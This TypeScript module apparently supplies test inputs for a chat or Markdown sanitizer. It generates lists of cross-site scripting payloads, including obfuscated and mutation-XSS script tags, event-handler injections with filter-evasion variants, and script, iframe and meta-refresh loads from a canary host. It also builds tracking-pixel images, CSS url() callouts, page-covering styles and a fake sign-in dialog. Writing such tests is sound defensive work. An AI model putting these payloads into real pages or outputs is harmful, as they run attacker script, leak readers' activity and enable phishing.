/** The call that every script of a hostile text makes. */
export const run = 'ran()'

/** Elements that run, load or take the page over by themselves. */
export function elements(canary: string): string[] {
  const scripts = [
    `<script>${run}</script>`,
    `<ScRiPt>${run}</sCrIpT>`,
    `<script\n>${run}</script\n>`,
    `<script/x>${run}</script>`,
    `<script src="${canary}/x.js"></script>`,
    `<script src=${canary}/x.js async>`,
    `<script type=module>import '${canary}/m.js'</script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><script href="${canary}/s.js" /></svg>`,
    `<math><script>${run}</script></math>`,
    `<template><script>${run}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<iframe src="${canary}/frame"></iframe>`,
    `<object data="${canary}/o"></object>`,
    `<embed src="${canary}/e">`,
    `<applet code="${canary}/a"></applet>`,
    `<frameset><frame src="${canary}/f"></frameset>`,
    `<portal src="${canary}/p"></portal>`,
    `<base href="${canary}/">`,
    `<meta http-equiv="refresh" content="0;url=${canary}/">`,
    `<meta http-equiv="set-cookie" content="a=b">`,
    `<link rel="stylesheet" href="${canary}/s.css">`,
    `<link rel="preload" as="script" href="${canary}/p.js">`,
    `<link rel="prefetch" href="${canary}/p">`,
    `<link rel="preconnect" href="${canary}">`,
    `<link rel="manifest" href="${canary}/m.json">`,
    `<form action="${canary}/"><input name=a><button autofocus>Continue</button></form>`,
    `<button formaction="javascript:${run}">Continue</button>`,
    `<isindex action="javascript:${run}">`,
    '<dialog open>Your session has ended. Sign in again.</dialog>',
    '<h1 id="chat" class="chat">Not the chat</h1>',
  ]
  return scripts.flatMap((text) => [text, `Hello">${text}`, `**Hello** ${text}`])
}

/** Event handlers, in the ways in which filters have missed them. */
export function handlers(): string[] {
  const tags = [
    'img src=x onerror',
    'img src=x ONERROR',
    'svg onload',
    'body onload',
    'body onpageshow',
    'video src=x onerror',
    'audio src=x onerror',
    'video><source onerror',
    'input autofocus onfocus',
    'select autofocus onfocus',
    'textarea autofocus onfocus',
    'details open ontoggle',
    'marquee onstart',
    'iframe onload',
    'object data=x onerror',
    'style onload',
    'link rel=stylesheet href=x onerror',
    'a href=x onmouseover',
    'a tabindex=1 autofocus onfocus',
    'div onpointerover',
    'p style=animation-name:bubble-in onanimationstart',
    'svg><animate begin=0s attributeName=x dur=1s onbegin',
    'x contenteditable autofocus onfocus',
    'div popover id=p onbeforetoggle',
  ]
  return tags.flatMap((tag) => [
    `<${tag}=${run}>`,
    `<${tag}="${run}" x=`,
    `"><${tag}='${run}'>`,
    `<${tag.replaceAll(' ', '/')}=${run}//`,
    `[<${tag}=${run}>](https://example.com)`,
  ])
}

/** Images and media, which tell a stranger who reads this and when. */
export function images(canary: string): string[] {
  return [
    `![p](${canary}/p.png)`,
    `![p](${canary}/p.png "a title")`,
    `![p](<${canary}/p q.png>)`,
    `![p][pixel]\n\n[pixel]: ${canary}/r.png`,
    `![pixel]\n\n[pixel]: ${canary}/s.png`,
    `[![p](${canary}/in-link.png)](https://example.com)`,
    `- item ![p](${canary}/in-list.png)`,
    `| a |\n|---|\n| ![p](${canary}/in-table.png) |`,
    `> ![p](${canary}/in-quote.png)`,
    `**![p](${canary}/bold.png)**`,
    `![![p](${canary}/inner.png)](${canary}/outer.png)`,
    `![p](//${canary.replace(/^https?:\/\//, '')}/schemeless.png)`,
    `<img src="${canary}/i.png">`,
    `<img srcset="${canary}/set.png 1x">`,
    `<img/src="${canary}/slash.png">`,
    `<image src="${canary}/image.png">`,
    `<picture><source srcset="${canary}/source.png"><img></picture>`,
    `<video poster="${canary}/poster.png"></video>`,
    `<video src="${canary}/v.mp4" autoplay></video>`,
    `<audio src="${canary}/a.mp3" autoplay></audio>`,
    `<video><track default src="${canary}/t.vtt"></video>`,
    `<input type="image" src="${canary}/input.png">`,
    `<body background="${canary}/body.png">`,
    `<table background="${canary}/table.png"><td background="${canary}/td.png">x</table>`,
    `<svg><image href="${canary}/svg.png" width=9 height=9 /></svg>`,
    `<svg><use href="${canary}/use.svg#x" /></svg>`,
    `<svg><filter id=f><feImage href="${canary}/fe.png" /></filter></svg>`,
    `<svg><foreignObject><img src="${canary}/fo.png"></foreignObject></svg>`,
    `<img src=x ping="${canary}/ping" longdesc="${canary}/long">`,
  ]
}

/** Styles that call out, cover the page or hide its words. */
export function styles(canary: string): string[] {
  const rules = [
    `background:url(${canary}/b.png)`,
    `background:url("${canary}/c.png")`,
    `list-style:url(${canary}/l.png)`,
    `cursor:url(${canary}/c.cur),auto`,
    `border-image:url(${canary}/bi.png) 1`,
    `content:url(${canary}/co.png)`,
    `mask:url(${canary}/m.svg#m)`,
    `filter:url(${canary}/f.svg#f)`,
    `background:image-set("${canary}/is.png" 1x)`,
    `--a:url(${canary}/v.png);background:var(--a)`,
    'position:fixed;inset:0;z-index:2147483647;background:#fff',
    'width:expression(ran())',
    'behavior:url(#default#time2)',
    '-moz-binding:url(x)',
    'display:none',
  ]
  return rules.flatMap((rule) => [
    `<p style="${rule}">Styled</p>`,
    `<style>*{${rule}}</style>`,
    `}</style><style>body{${rule}}`,
    `red;${rule}`,
    `<svg><style>@import "${canary}/imported.css";*{${rule}}</style></svg>`,
  ])
}
